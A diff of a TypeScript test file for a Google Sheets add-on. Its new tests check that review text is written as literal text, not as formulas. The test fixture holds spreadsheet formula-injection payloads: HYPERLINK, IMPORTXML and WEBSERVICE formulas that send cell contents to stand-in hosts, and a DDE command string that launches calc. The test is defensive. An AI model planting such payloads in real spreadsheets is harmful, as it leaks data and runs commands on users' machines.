@@ -16,7 +16,10 @@ import type { CellArg } from '../../src/core/functions/cells';
 import { genericCases, HOST_CASES, sheetsDate, toExcelArgs, toSheetsArgs, type HostCase } from '../shared/host-cases';
 import { MENU_ITEMS } from '../../gas/server/menu';
 import { SERVER_ENDPOINT_NAMES } from '../../gas/shared/protocol';
-import { BUTTON, BUTTON_SET, FakeUtilities } from './fake-spreadsheet-app';
+import { BUTTON, BUTTON_SET, FakeUtilities, fakeServices } from './fake-spreadsheet-app';
+import { sampleReview } from '../../src/core/review/sample';
+import { DEFAULT_SCALE } from '../../src/core/scale/registry';
+import { readScoreSheet, scoreSheetPlan } from '../../src/core/sheets/score-sheet';
 
 const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
 const CODE = path.join(ROOT, 'dist/gas/Code.js');
@@ -102,16 +105,16 @@ describe('Code.js is a script Apps Script accepts', () => {
     }
   });
 
-  it('builds the «IPS-kvalitet» menu from onOpen, each item calling a global function', () => {
-    const menus: { caption: string; items: [string, string][] }[] = [];
+  it('builds the add-on menu from onOpen, each item calling a global function', () => {
+    const menus: [string, string][][] = [];
     const ui = {
       Button: BUTTON,
       ButtonSet: BUTTON_SET,
-      createMenu(caption: string) {
-        const menu = { caption, items: [] as [string, string][] };
-        menus.push(menu);
+      createAddonMenu() {
+        const items: [string, string][] = [];
+        menus.push(items);
         const api = {
-          addItem: (label: string, fn: string) => (menu.items.push([label, fn]), api),
+          addItem: (label: string, fn: string) => (items.push([label, fn]), api),
           addSeparator: () => api,
           addToUi: () => undefined,
         };
@@ -121,8 +124,8 @@ describe('Code.js is a script Apps Script accepts', () => {
     const context = load({ SpreadsheetApp: { getUi: () => ui }, HtmlService: {}, Utilities: {} });
     (context['onOpen'] as (e: unknown) => void)({ authMode: 'LIMITED' });
     expect(menus).toHaveLength(1);
-    expect(menus[0]!.caption).toBe('IPS-kvalitet');
-    for (const [, fn] of menus[0]!.items) expect(typeof context[fn], fn).toBe('function');
+    expect(menus[0]!.map(([label]) => label)).toEqual(MENU_ITEMS.map((item) => item.caption));
+    for (const [, fn] of menus[0]!) expect(typeof context[fn], fn).toBe('function');
   });
 
   it('--check lists exactly what clasp push would push, with sizes', () => {
@@ -210,5 +213,53 @@ describe('custom functions in Sheets answer exactly as the Excel adapter', () =>
     expect(expected).toEqual({ ok: true, json: '7' });
     expect(callSheets(zoned, 'DAYS_TO_EMPLOYER_CONTACT', args)).toEqual(expected);
     expect(log.length).toBeGreaterThan(0);
+  });
+});
+
+describe('Code.js writes text as text (ipsWrite over SpreadsheetApp)', () => {
+  const SHEET = 'IPS 2025-06-07';
+  /** A review whose free text would be formulas if Sheets parsed it. */
+  function hostileReview() {
+    const review = sampleReview();
+    review.service = '=1+1';
+    review.team = '=HYPERLINK("http://evil/?"&A1,"klikk")';
+    review.evaluators = "+cmd|' /C calc'!A0";
+    const first = review.items[DEFAULT_SCALE.items[0]!.id]!;
+    first.evidence = '=IMPORTXML("http://x/?"&A1,"//a")';
+    first.recommendation = '=WEBSERVICE("http://x/?"&A1)';
+    first.consensusNote = "'sitat";
+    return review;
+  }
+
+  it('stores names, notes and recommendations as literal text and reads them back unchanged, formulas as formulas', () => {
+    const services = fakeServices();
+    const context = load({ SpreadsheetApp: services.spreadsheetApp, HtmlService: services.htmlService, Utilities: services.utilities });
+    const review = hostileReview();
+    // As google.script.run carries it: plain JSON.
+    const plans = JSON.parse(JSON.stringify([scoreSheetPlan(review, { sheet: SHEET, language: 'nb' })]));
+    (context['ipsWrite'] as (plans: unknown) => void)(plans);
+    const sheet = services.book.sheet(SHEET)!;
+    expect(sheet.at('C3')).toBe('=1+1');
+    expect(sheet.isFormula('C3')).toBe(false);
+    expect(sheet.isFormula('C4')).toBe(false);
+    expect(sheet.isFormula('C6')).toBe(true); // the total
+    const values = (context['ipsReadSheet'] as (name: string) => unknown[][])(SHEET);
+    const back = readScoreSheet(JSON.parse(JSON.stringify(values)))!;
+    expect([back.service, back.team, back.evaluators]).toEqual([review.service, review.team, review.evaluators]);
+    const id = DEFAULT_SCALE.items[0]!.id;
+    expect([back.items[id]!.evidence, back.items[id]!.recommendation, back.items[id]!.consensusNote]).toEqual([
+      review.items[id]!.evidence,
+      review.items[id]!.recommendation,
+      review.items[id]!.consensusNote,
+    ]);
+  });
+
+  it('refuses a formula cell that is not a formula object with text starting with "="', () => {
+    const services = fakeServices();
+    const context = load({ SpreadsheetApp: services.spreadsheetApp, HtmlService: services.htmlService, Utilities: services.utilities });
+    const write = context['ipsWrite'] as (plans: unknown) => void;
+    expect(() => write([{ sheet: 'X', blocks: [{ row: 0, column: 0, values: [[{ formula: 'SUM(1)' }]] }] }])).toThrow(/neither a value nor a formula/);
+    expect(() => write([{ sheet: 'X', blocks: [{ row: 0, column: 0, values: [[{ formula: '=1', extra: 1 }]] }] }])).toThrow(/neither a value nor a formula/);
+    expect(services.book.sheet('X')).toBeUndefined();
   });
 });
